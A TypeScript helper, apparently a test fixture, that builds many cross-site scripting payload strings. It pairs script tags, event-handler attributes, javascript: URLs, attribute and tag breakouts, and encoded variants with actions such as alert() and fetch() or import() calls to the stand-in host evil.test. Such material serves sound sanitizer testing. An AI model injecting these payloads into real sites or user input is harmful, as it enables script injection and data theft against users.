/** Scripts that would leave a trace: a dialog, a variable, a request to another site. */
const DEEDS = ['alert(1)', 'window.__x=1', "fetch('//evil.test/1')", "import('//evil.test/2')"] as const

/** Ways to have a script run out of a text, each with `…` in its place. */
const WAYS = [
  '<script>…</script>',
  '<script src=//evil.test/a.js></script>',
  '<img src=x onerror=…>',
  '<svg onload=…>',
  '<svg><script>…</script></svg>',
  '"><script>…</script>',
  "'><img src=x onerror=…>",
  '" onmouseover="…" x="',
  "' autofocus onfocus='…",
  '</textarea><script>…</script>',
  '</title><script>…</script>',
  '</style><script>…</script>',
  '<iframe srcdoc="<script>…</script>">',
  '<iframe src="javascript:…">',
  '<a href="javascript:…">here</a>',
  'javascript:…',
  'data:text/html,<script>…</script>',
  '<form action=//evil.test><button>Go',
  '<base href=//evil.test/>',
  '<link rel=stylesheet href=//evil.test/a.css>',
  '<style>@import "//evil.test/a.css"</style>',
  '<meta http-equiv=refresh content="0;//evil.test">',
  '<object data=//evil.test></object>',
  '<embed src=//evil.test>',
  '<video><source onerror=…></video>',
  '<details open ontoggle=…>',
  '<math><mi xlink:href="javascript:…">x</mi></math>',
  '<template><img src=x onerror=…></template>',
  '{{constructor.constructor("…")()}}',
  '`+(…)+`',
  '"+(…)+"',
  '\\u003cscript\\u003e…\\u003c/script\\u003e',
  '&lt;script&gt;…&lt;/script&gt;',
  '%3Cscript%3E…%3C/script%3E',
  '<noscript><p title="</noscript><img src=x onerror=…>">',
  '<b>bold</b><!-- … -->',
  ']]><script>…</script>',
  'url(javascript:…)',
] as const

/** So many different texts, each of which would do something if it were read as more than a text. */
export function hostileTexts(count: number): string[] {
  const texts = DEEDS.flatMap((deed) => WAYS.map((way) => way.replace('…', deed)))
  return Array.from({ length: count }, (_, index) => `${texts[index % texts.length]} ${index}`)
}
